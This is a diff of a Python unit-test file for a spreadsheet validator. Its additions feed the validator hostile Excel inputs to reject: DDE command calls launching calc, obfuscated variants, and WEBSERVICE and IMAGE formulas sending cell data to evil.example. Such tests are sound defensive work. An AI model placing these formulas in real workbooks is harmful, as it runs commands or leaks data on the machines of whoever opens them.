@@ -3,20 +3,18 @@
 import struct
 import zipfile
 from collections.abc import Callable
-from contextlib import suppress
 from io import BytesIO
-from pathlib import Path
 
 import openpyxl
 import pytest
 import xlsxwriter
 
-from tasks.errors import Invalid, JobError
+from tasks.errors import Invalid
 from tasks.reports.workbooks.findings import examined
 from tasks.reports.workbooks.package import MOST_BYTES
-from tests.unit.workbooks.samples import filled, with_headings, with_table
+from tests.unit.workbooks.changing import changed, replacing
+from tests.unit.workbooks.samples import with_headings, with_table
 
-Change = Callable[[str, bytes], bytes]
 BROKEN = "is no Excel workbook"
 RELATION = (
     b'<Relationship Id="x9" Type="http://x/relationships/%s" Target="%s" TargetMode="%s"/></R'
@@ -24,32 +22,10 @@ RELATION = (
 TYPE = b'<Override PartName="/%s" ContentType="application/%s"/></Types>'
 
 
-def changed(change: Change, *, add: dict[str, bytes] | None = None) -> bytes:
-    """The workbook with its parts changed, and others added."""
-    file = BytesIO()
-    with (
-        zipfile.ZipFile(BytesIO(with_table())) as before,
-        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as after,
-    ):
-        for name in before.namelist():
-            after.writestr(name, change(name, before.read(name)))
-        for name, content in (add or {}).items():
-            after.writestr(name, content)
-    return file.getvalue()
-
-
 def adding(name: str, content: bytes = b"x", kind: bytes = b"xml") -> bytes:
     """A part more, with a type of its own."""
     told = TYPE % (name.encode(), kind)
     return changed(replacing("[Content_Types].xml", b"</Types>", told), add={name: content})
-
-
-def replacing(part: str, old: bytes, new: bytes) -> Change:
-    def change(name: str, content: bytes) -> bytes:
-        assert name != part or old in content
-        return content.replace(old, new, 1) if name == part else content
-
-    return change
 
 
 def related(kind: bytes, target: bytes, mode: bytes = b"External") -> bytes:
@@ -160,6 +136,42 @@ HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
         lambda: in_sheet(b"SUM(C4:C5)+C6", b"cmd|'/c calc'!A0"),
         "reads from other files",
     ),
+    "a call without quotes": (
+        lambda: in_sheet(b"SUM(C4:C5)+C6", b"1+excel|book!A0"),
+        "reads from other files",
+    ),
+    "a call in disguise": (
+        lambda: in_sheet(b"SUM(C4:C5)+C6", b"cmd&#124;'/c calc'!A0"),
+        "reads from other files",
+    ),
+    "a question to a machine": (
+        lambda: in_sheet(b"SUM(C4:C5)+C6", b'_xlfn.WEBSERVICE("https://evil.example/"&amp;C4)'),
+        "reads from other files",
+    ),
+    "a picture by formula": (
+        lambda: in_sheet(b"SUM(C4:C5)+C6", b'_xlfn.IMAGE ("https://evil.example/"&amp;C4)'),
+        "reads from other files",
+    ),
+    "a call in a name": (
+        lambda: changed(
+            replacing("xl/workbook.xml", b"'My Data'!$C$4:$C$5<", b"cmd|'/c calc'!A0<")
+        ),
+        "reads from other files",
+    ),
+    "a call in a rule": (
+        lambda: in_sheet(b"<formula>1000</formula>", b"<formula>cmd|'/c x'!A0</formula>"),
+        "reads from other files",
+    ),
+    "a call in a column": (
+        lambda: changed(
+            replacing(
+                "xl/tables/table1.xml",
+                b"<calculatedColumnFormula>",
+                b"<calculatedColumnFormula>RTD(1)+",
+            )
+        ),
+        "reads from other files",
+    ),
     "a part of no known type": (lambda: adding("xl/x.exe", kind=b"octet-stream"), "cannot have"),
     "a part without a type": (
         lambda: changed(lambda _, part: part, add={"xl/x.bin": b"x"}),
@@ -228,6 +240,11 @@ def test_a_note_below_the_rows_is_refused_and_one_above_is_not() -> None:
         examined(noted("B9")).check_has_place()
 
 
+def test_words_that_only_look_like_a_call_are_let_through() -> None:
+    sound = b"IF(C4=&quot;a|b CALL(x)&quot;,RECALL,C4)"
+    examined(in_sheet(b"SUM(C4:C5)+C6", sound)).check_has_place()
+
+
 def test_what_is_sound_is_found() -> None:
     found = examined(with_table())
     found.check_has_place()
@@ -238,30 +255,3 @@ def test_what_is_sound_is_found() -> None:
     assert [one.header for one in found.target.columns] == wanted
     assert sorted(found.filled_names) == ["Date", "Parameters", "Row_count", "Title", "Total_Net"]
     assert found.other_names == ["Nets"]
-
-
-SHEET, DRAWING, STYLES = "xl/worksheets/sheet2.xml", "xl/drawings/drawing2.xml", "xl/styles.xml"
-
-
-@pytest.mark.parametrize(
-    ("part", "old", "new"),
-    [
-        (SHEET, b'<row r="3"', b'<row r="%s"' % (b"9" * 5_000)),
-        (SHEET, b'<row r="3"', b'<row r="x"'),
-        (SHEET, b'<col min="1" max="1"', b'<col min="1" max="x"'),
-        (SHEET, b'<c r="C4" s="', b'<c r="C4" s="x'),
-        (STYLES, b'numFmtId="164"', b'numFmtId="x"'),
-        (DRAWING, b"<xdr:row>14</xdr:row>", b"<xdr:row>x</xdr:row>"),
-        (DRAWING, b"<xdr:row>14</xdr:row>", b"<xdr:row>%s</xdr:row>" % (b"9" * 5_000)),
-        (DRAWING, b"<xdr:row>14</xdr:row>", b"<xdr:row/>"),
-    ],
-)
-def test_numbers_that_are_none_end_in_words(
-    tmp_path: Path, part: str, old: bytes, new: bytes
-) -> None:
-    content = changed(replacing(part, old, new))
-    with pytest.raises((Invalid, JobError), match=BROKEN):
-        filled(tmp_path / "x.xlsx", content)
-    with suppress(Invalid):  # what is not read at first is found when it is filled
-        examined(content).check_has_place()
-    assert list(tmp_path.iterdir()) == []
